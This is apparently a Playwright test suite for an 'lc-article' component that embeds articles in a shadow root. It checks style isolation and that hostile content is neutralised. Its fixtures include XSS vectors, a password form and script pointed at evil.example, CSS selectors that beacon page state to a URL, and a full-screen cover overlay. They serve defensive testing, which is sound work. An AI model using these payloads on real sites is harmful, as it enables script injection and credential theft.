import { expect, test } from './fixtures';
import { quiet } from './quiet';

const PATH = '/public/post/first/index.html';

test.describe('lc-article', () => {
  test('has its own styles, and runs its scripts from the host list @journey', async ({ page, store }) => {
    await page.goto(store.url('www', '/support.html'));
    const article = page.locator('lc-article').getByRole('article', { name: '新手指南' });
    await expect(article.getByRole('heading', { name: '新手采购指南' })).toHaveCSS(
      'color',
      'rgb(20, 86, 200)',
    );
    await expect(article.getByRole('table')).toHaveCSS('border-collapse', 'collapse');
    await expect(article.getByRole('link', { name: '查看帮助中心' })).toHaveAttribute(
      'href',
      store.url('www', '/help/101.html'),
    );
    await expect.poll(() => page.evaluate(() => Reflect.get(window, 'articleScript'))).toBe(true);
    expect(await page.evaluate(() => Reflect.get(window, 'articleInline'))).toBe(true);
  });

  test('applies its own rules for root and body, which change nothing outside', async ({ page, store }) => {
    const rules = `html,body{position:fixed;height:100%;overflow:hidden;opacity:0}:root{--ink:rgb(1, 2, 3)}
      body{font-size:21px;background:rgb(250, 250, 251)}body.pg .x{color:var(--ink)}`;
    const body = `<!doctype html><title>x</title><style>${rules}</style><body class="pg"><p class="x">own</p>${'<p>more</p>'.repeat(99)}<p>end</p>`;
    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.goto(store.url('www', '/support.html'));
    const text = page.locator('lc-article').getByText('own');
    await expect(text).toHaveCSS('font-size', '21px');
    await expect(text).toHaveCSS('color', 'rgb(1, 2, 3)');
    await page.locator('lc-article').getByText('end').scrollIntoViewIfNeeded();
    await expect(page.locator('lc-article').getByText('end')).toBeInViewport();
    const own = page.locator('lc-article body');
    for (const [rule, value] of [
      ['margin', '0px'],
      ['position', 'static'],
      ['opacity', '1'],
    ] as const)
      await expect(own).toHaveCSS(rule, value);
    expect(await page.evaluate(() => document.body.parentNode === document.documentElement)).toBe(true);
    await expect(page.locator('body').first()).not.toHaveCSS('background-color', 'rgb(250, 250, 251)');
  });

  test('shows a page that hides its root or body until a script has run', async ({ page, store }) => {
    const body = `<!doctype html><html hidden><title>x</title><style>body{display:none!important}</style>
      <link rel="stylesheet" href="/late.css"><body style="display:none"><p>own</p>`;
    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.route('**/late.css', (route) =>
      route.fulfill({ contentType: 'text/css', body: 'html{display:none!important}' }),
    );
    await page.goto(store.url('www', '/support.html'));
    await expect(page.locator('lc-article').getByText('own')).toBeVisible();
  });

  test('keeps a page in its box that has rules for its own shadow host', async ({ page, store }) => {
    const covering =
      'contain:none!important;position:fixed!important;inset:0!important;z-index:2147483647!important;background:#fff!important';
    const body = `<!doctype html><title>x</title><style>:host{${covering}}html,body{${covering}}</style>
      <link rel="stylesheet" href="/cover.css"><body><p>own</p>`;
    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.route('**/cover.css', (route) =>
      route.fulfill({ contentType: 'text/css', body: `:host{${covering}}` }),
    );
    await page.goto(store.url('www', '/support.html'));
    await expect(page.locator('lc-article article')).toHaveCSS('position', 'fixed');
    await page.locator('lc-header').getByRole('combobox').first().click({ trial: true });
  });

  test('has no rule that reads or styles the page around it (G27)', async ({ page, store }) => {
    const told = (name: string) => `{background:url("/told?${name}")}`;
    const hostile = [
      `:host-context([lang^="zh"]) p${told('context')}`,
      `:h\\6fst-context(html)${told('escaped')}`,
      `p, :/**/host-context(body) p${told('comment')}`,
      `p:is(:host-context(html) *)${told('is')}`,
      `:HOST([aria-label])${told('host')}`,
      `[title="{"], :host-context(html) p${told('brace')}`,
      `@media all{@supports (display:block){:host-context(html) p${told('media')}}}`,
      `@layer a{:host-context(html) p${told('layer')}}`,
      `p{color:inherit;:host-context(html) &${told('nested')}}`,
      `@scope (:host-context(html)){p${told('scope')}}`,
      `@container style(--page-secret: a){p${told('container')}}`,
      `p{background-image:if(style(--page-secret: a): url("/told?if"); else: none)}`,
      `@property --page-secret{syntax:"*";inherits:false;initial-value:b}`,
      `@import "/told?import";`,
      `@namespace x "/told?namespace";`,
    ];
    const style = `${hostile.join('\n')}\n.a\\:host{color:rgb(1,2,3)}@media all{p{color:rgb(4,5,6);b{color:rgb(7,8,9)}}}`;
    const body = `<!doctype html><title>x</title><style>${style}</style><body><p class="a:host">own <b>bold</b></p>`;
    const asked: string[] = [];
    page.on('request', (request) => request.url().includes('told') && asked.push(request.url()));
    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.goto(store.url('www', '/support.html'));
    await page
      .locator('html')
      .first()
      .evaluate((html) => html.style.setProperty('--page-secret', 'a'));
    const article = page.locator('lc-article');
    await expect(article.locator('b')).toHaveCSS('color', 'rgb(7, 8, 9)');
    await expect(article.locator('p')).toHaveCSS('color', /rgb\((?:1, 2, 3|4, 5, 6)\)/);
    const kept = await article
      .locator('article')
      .evaluate((host) =>
        [...(host.shadowRoot?.adoptedStyleSheets ?? [])].flatMap(({ cssRules }) =>
          [...cssRules].map((rule) => rule.cssText),
        ),
      );
    expect(kept.join('\n')).not.toMatch(/told|page-secret/);
    await quiet(page);
    expect(asked).toEqual([]);
  });

  test('whose script writes into the document leaves the page as it is (G27)', async ({ page, store }) => {
    const body = `<title>x</title><p>own</p><script>document.write('<i>2026</i>');document.open()</script>
      <script>window.ranAfter=true</script>`;
    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.goto(store.url('www', '/support.html'));
    await expect.poll(() => page.evaluate(() => Reflect.get(window, 'ranAfter'))).toBe(true);
    await expect(page.locator('lc-article').getByText('own')).toBeVisible();
    await expect(page.locator('lc-header')).toHaveCount(1);
  });

  test('of a hostile server runs nothing and covers nothing (G27)', async ({ page, store }) => {
    const hostile = `<title>x</title><style>div{position:fixed;inset:0;z-index:2147483647;background:red}</style>
      <body><div id="cover">cover</div><img src="/none.png" onerror="window.hacked=1"><svg onload="window.hacked=2"></svg>
      <a href="javascript:window.hacked=3">link</a><iframe srcdoc="<script>top.hacked=4</script>"></iframe>
      <form action="https://evil.example/"><input name="password"></form>
      <script src="https://evil.example/x.js"></script><p>readable</p></body>`;
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) foreign.push(request.url());
    });
    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body: hostile }));
    await page.goto(store.url('www', '/support.html'));
    const element = page.locator('lc-article');
    await expect(element.getByText('readable')).toBeVisible();
    await expect(element.getByText('link')).not.toHaveAttribute('href', /./);
    await expect(element.locator('iframe, form, input, svg[onload], [onerror]')).toHaveCount(0);
    const [host, cover] = await Promise.all([element.boundingBox(), element.locator('#cover').boundingBox()]);
    expect(cover?.height).toBeLessThanOrEqual(host?.height ?? 0);
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
    expect(foreign).toEqual([]);
  });
});
